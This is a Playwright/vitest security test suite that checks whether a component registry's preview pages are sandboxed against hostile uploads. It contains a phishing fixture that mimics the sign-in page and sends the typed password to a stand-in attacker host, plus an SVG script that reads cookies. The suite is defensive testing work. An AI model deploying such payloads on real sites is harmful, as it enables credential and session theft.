import type { BrowserContextOptions, Frame, Page } from "playwright-core";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { type Attempts, attackPreview } from "./attack-preview.ts";
import { type EvilHost, openEvilHost } from "./evil-host.ts";
import { openRegistry } from "./open-registry.ts";
import { setUpAdmin } from "./set-up-admin.ts";
import { useSite } from "./use-site.ts";

const GOOD = `<!doctype html><html lang="en"><head><link rel="stylesheet" href="/api/component/good.css"></head>
<body><p>Loading</p><script type="module" src="/api/component/good.js"></script></body></html>`;
const GOOD_JS = `import { height } from "./good-part.js";
const components = await (await fetch("/api/components.json")).json();
document.querySelector("p").textContent = components.map(({ id }) => id).join(" ");
document.querySelector("p").style.height = height;
document.querySelector("p").append(Object.assign(new Image(), { src: "/assets/PICTURE" }));`;

/** Looks like our sign-in page and calls itself that; what is typed is to leave with the next address. */
const phishing = (evil: string) => `<!doctype html><html lang="en"><head><title>Sign in</title></head><body>
<h1>Sign in</h1><input type="password"><button>Sign in</button><script>
history.replaceState({}, "", "/sign-in");
document.body.toggleAttribute("data-renamed", location.pathname === "/sign-in");
document.querySelector("button").onclick = () => {
  const address = "${evil}/?pw=" + document.querySelector("input").value;
  try { top.location = address } catch {}
};
</script></body></html>`;

/** Ways to the same hostile document. */
const WAYS = [
  "/api/component/attack/preview/default.html",
  "/api/component/attack-default.html",
  "/api/component/attack/deep/page.html",
  "/api/pattern/attack.html",
];

const SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><rect width="9" height="9"/>`;

describe("previews that mean harm", () => {
  let evil: EvilHost;
  let admin: BrowserContextOptions = {};
  let assets: string[] = [];
  const site = useSite(
    async () => {
      evil = await openEvilHost();
      const registry = await openRegistry("sqlite");
      const ingest = async (filename: string, text: string) => {
        const dataBase64 = Buffer.from(text).toString("base64");
        const body = { filename, mimeType: "image/svg+xml", dataBase64, componentId: "attack", refs: [] };
        return (await (await registry.post("/api/registry/assets/ingest", body)).json()).storageUrl as string;
      };
      const html = attackPreview(evil.origin);
      const svg = `${SVG}<script>document.documentElement.setAttribute("data-ran", document.cookie)</script></svg>`;
      assets = [await ingest("attack.html", html), await ingest("attack.svg", svg)];
      const picture = await ingest("dot.svg", `${SVG}</svg>`);
      const artifact = (path: string, content: string) =>
        change("component_artifact", path, { content, encoding: "utf8" });
      const answer = await registry.post("/api/sync/upload", {
        changes: [
          change("component", "attack", { title: "Attack", previews: { default: {} } }),
          artifact("attack/attack-default.html", html),
          artifact("attack/deep/page.html", html),
          ...["attack-data.json", "attack.png", "attack.js", "attack.txt", "attack.xhtml", "attack"].map((name) =>
            artifact(`attack/${name}`, html),
          ),
          artifact("attack/attack.svg", svg),
          change("component_source", "attack/attack.html", { content: html, encoding: "utf8" }),
          change("component_screenshot", "attack/screenshot.png", { content: html, encoding: "utf8" }),
          change("pattern", "attack", { id: "attack", title: "Attack", html }),
          change("component", "phishing", { title: "Phishing", previews: { default: {} } }),
          artifact("phishing/phishing-default.html", phishing(evil.origin)),
          change("component", "good", { title: "Good", previews: { default: {} } }),
          artifact("good/good-default.html", GOOD),
          artifact("good/good.js", GOOD_JS.replace("/assets/PICTURE", picture)),
          artifact("good/good-part.js", `export const height = "500px";`),
          artifact("good/good.css", "p { color: rgb(1, 2, 3) }"),
        ],
      });
      if (answer.status !== 200) throw new Error(await answer.text());
      return registry;
    },
    // Browsers say in the console what they refused; what was reached says `evil`.
    { expected: /^(?:console|page error|request to|4\d\d )/ },
  );
  beforeAll(async () => {
    admin = await setUpAdmin(site);
  });
  beforeEach(() => {
    evil.seen.length = 0;
  });
  afterAll(() => evil.close());

  /** What the other host was asked. A browser may connect to it beforehand and say nothing. */
  const requests = () => evil.seen.filter((one) => one !== "connection");

  /** A window of an administrator that notes what a preview makes it do. */
  const open = async () => {
    const page = await site.open(admin);
    const did: string[] = [];
    page.on("dialog", async (dialog) => {
      did.push(`${dialog.type()}: ${dialog.message()}`);
      await dialog.dismiss();
    });
    page.on("download", (download) => did.push(`download of ${download.suggestedFilename()}`));
    page.context().on("page", (popup) => did.push(`window ${popup.url()}`));
    page.context().on("serviceworker", (worker) => did.push(`service worker ${worker.url()}`));
    await page.addInitScript(() => {
      try {
        localStorage.setItem("secret", "of the registry");
      } catch {
        // A preview has no storage.
      }
    });
    return { page, did };
  };

  it("are detected by this test without protection", async () => {
    const { page, did } = await open();
    // A host of its own: a beacon may arrive after its page is closed, while the next test counts.
    const bare = await openEvilHost();
    try {
      bare.html = attackPreview(bare.origin);
      await page.goto(`${bare.origin}/`, { waitUntil: "commit" });
      const attempts = await attemptsIn(page.mainFrame());
      expect(Object.values(attempts).filter((got) => got !== "no").length).toBeGreaterThan(8);
      expect(attempts).toMatchObject({ "sets a cookie": "yes: attack=1", "opens a database": "yes: opened" });
      expect(did.join()).toMatch(/confirm: Attack\?/);
      expect(did.join()).toMatch(/window/);
      expect(did.join()).toMatch(/download of attack.html/);
      expect(bare.seen.join()).toMatch(/img\.png/);
      expect(bare.seen.join()).toMatch(/fetch/);
    } finally {
      await bare.close();
    }
  });

  it("get no access in a frame, from the headers alone, and can't navigate the page", async () => {
    const { page, did } = await open();
    await page.goto("/components/attack");
    await page.evaluate((ways) => {
      for (const src of ways) document.body.append(Object.assign(document.createElement("iframe"), { src }));
    }, WAYS);
    const framed = () => page.frames().filter((frame) => isAttack(frame.url()));
    await expect.poll(() => framed().length).toBe(WAYS.length + 1);
    for (const frame of framed()) expect(await gotBy(frame), frame.url()).toEqual([]);
    expect(await page.locator("[data-stage-box]").evaluate((box: HTMLElement) => box.offsetHeight)).toBeLessThanOrEqual(
      760,
    );
    for (const frame of framed()) await frame.evaluate(() => window.leave?.(true)).catch(() => undefined);
    await page.waitForTimeout(500);
    expect(new URL(page.url()).pathname).toBe("/components/attack");
    expect(await page.getByText("attacked", { exact: true }).count()).toBe(0);
    const elsewhere = page.frames().filter((frame) => /\/account|\/admin|\/sign-out/.test(frame.url()));
    expect(elsewhere.map((frame) => frame.url())).toEqual([]);
    expect([did, requests()]).toEqual([[], []]);
    await expectUnharmed(page);
  });

  it.each(WAYS)("get no access when %s is opened directly, inside our page", async (way) => {
    const { page, did } = await open();
    // What a preview asks for may hold up its `load` for as long as it likes.
    await page.goto(way, { waitUntil: "domcontentloaded" });
    const found = () => page.frames().find((frame) => frame !== page.mainFrame() && isAttack(frame.url()));
    await expect.poll(() => found() !== undefined).toBe(true);
    const framed = found();
    if (!framed) throw new Error("There is no frame with the preview.");
    expect(await gotBy(framed)).toEqual([]);
    await framed.evaluate(() => window.leave?.(true)).catch(() => undefined);
    await page.waitForTimeout(300);
    expect(new URL(page.url()).pathname).toBe(way);
    expect(await page.getByRole("banner").getByText("Preview of").isVisible()).toBe(true);
    expect([did, requests()]).toEqual([[], []]);
    await expectUnharmed(page);
  });

  it("can't imitate the sign-in page, opened directly or without the header", async () => {
    const { page } = await open();
    const way = "/api/component/phishing-default.html";
    await page.goto(way);
    const framed = page.frameLocator("iframe");
    await expect.poll(() => framed.locator("[data-renamed]").count()).toBe(1);
    expect(new URL(page.url()).pathname).toBe(way);
    expect(await page.title()).toMatch(/^Preview · /);
    // What left by itself would have taken the password along.
    await framed.locator("input").fill("hunter2");
    await framed.locator("button").click();
    await page.waitForTimeout(300);
    expect(new URL(page.url()).pathname).toBe(way);
    expect(requests()).toEqual([]);
    // A browser that does not say what it wants the document for gets it without scripts.
    const { page: old } = await open();
    await old.route(`**${way}`, async (route) => {
      const { "sec-fetch-dest": _, ...headers } = await route.request().allHeaders();
      await route.fulfill({ response: await route.fetch({ headers }) });
    });
    await old.goto(way);
    expect(await old.locator("input").count()).toBe(1);
    expect(await old.locator("[data-renamed]").count()).toBe(0);
    expect(new URL(old.url()).pathname).toBe(way);
  });

  it("run nothing with privileges, whatever their file type", async () => {
    const { page, did } = await open();
    const names = ["attack.png", "attack.js", "attack.txt", "attack.svg", "attack/screenshot.png"];
    const files = [
      ...names.map((name) => `/api/component/${name}`),
      "/api/component/attack/attack-data.json",
      "/api/component/attack/attack.xhtml",
      "/api/component/attack/attack",
      "/api/service/components/source?id=attack&path=attack.html",
      ...assets,
    ];
    for (const path of files) {
      // What no browser shows is saved, which ends the visit.
      const answer = await page.goto(path).catch(() => undefined);
      const { headers, status } = answer
        ? { headers: answer.headers(), status: answer.status() }
        : await headersOf(`${site.service.url}${path}`);
      expect(status, path).toBe(200);
      expect(headers["content-security-policy"], path).toMatch(/^sandbox/);
      expect(headers["x-content-type-options"], path).toBe("nosniff");
      if (!path.includes("source?")) expect(headers["content-type"], path).not.toMatch(/html|xhtml|^text\/xml/);
      if (!answer) continue;
      expect(await page.evaluate(() => window.attempts), path).toBeUndefined();
      expect(await page.evaluate(() => document.documentElement.getAttribute("data-ran")), path).toBeNull();
    }
    // What it saves is what the reader opened.
    expect(did.filter((one) => !one.startsWith("download"))).toEqual([]);
    expect(requests()).toEqual([]);
  });

  it("can't be framed by other sites, and can't be service workers", async () => {
    const { page } = await open();
    evil.html = WAYS.map((way) => `<iframe src="${site.service.url}${way}"></iframe>`).join("");
    await page.goto(`${evil.origin}/`);
    await expect
      .poll(() => page.frames().filter((frame) => frame.url().startsWith("chrome-error:")).length)
      .toBe(WAYS.length);
    evil.html = "";
    for (const path of [...WAYS, "/api/component/attack.js", ...assets]) {
      const { status } = await site.service.get(path, { "service-worker": "script" });
      expect(status, path).toBe(403);
    }
  });

  it("don't affect harmless code: modules, styles, pictures and public reads work, and the frame grows", async () => {
    const { page } = await open();
    await page.goto("/components/good");
    const text = page.frameLocator("[data-stage] iframe").locator("p");
    await expect.poll(() => text.innerText()).toContain("attack good");
    expect(await text.evaluate((p) => getComputedStyle(p).color)).toBe("rgb(1, 2, 3)");
    await expect.poll(() => text.locator("img").evaluate((img: HTMLImageElement) => img.naturalWidth)).toBe(9);
    const box = page.locator("[data-stage-box]");
    await expect.poll(() => box.evaluate((element: HTMLElement) => element.offsetHeight)).toBeGreaterThan(500);
    expect(await text.evaluate(() => document.documentElement.scrollHeight - innerHeight)).toBe(0);
  });

  /** The session goes on, and nothing was written with it. */
  async function expectUnharmed(page: Page): Promise<void> {
    const ask = async (path: string) => {
      const answer = await page.context().request.get(path);
      return { status: answer.status(), text: await answer.text() };
    };
    expect((await ask("/api/account")).text).toContain("Ada Lindgren");
    expect((await ask("/api/service/pages?slug=attacked")).status).toBe(404);
    expect((await ask("/api/service/components?id=attack")).text).toContain('"title":"Attack"');
  }
});

const change = (entityType: string, entityId: string, data: unknown) => ({
  entityType,
  entityId,
  action: "create",
  data,
});

const isAttack = (address: string): boolean => WAYS.includes(new URL(address, "http://none").pathname);

async function attemptsIn(frame: Frame): Promise<Attempts> {
  // By the clock: a frame below the fold gets no animation frames, by which this waits otherwise.
  await frame.waitForFunction(() => window.attempts !== undefined, undefined, { polling: 100 });
  return frame.evaluate(() => window.attempts ?? {});
}

/** Browsers let any document do this within its host; against it there is only a host of their own for previews. */
const RENAMES = "calls itself another page";

/** What a preview got of all it tried. */
async function gotBy(frame: Frame): Promise<string[]> {
  const attempts = Object.entries(await attemptsIn(frame));
  expect(attempts.length).toBeGreaterThan(20);
  return attempts.flatMap(([name, got]) => (got === "no" || name === RENAMES ? [] : [`${name}: ${got}`]));
}

async function headersOf(address: string): Promise<{ status: number; headers: Record<string, string> }> {
  const { status, headers } = await fetch(address);
  return { status, headers: Object.fromEntries(headers) };
}
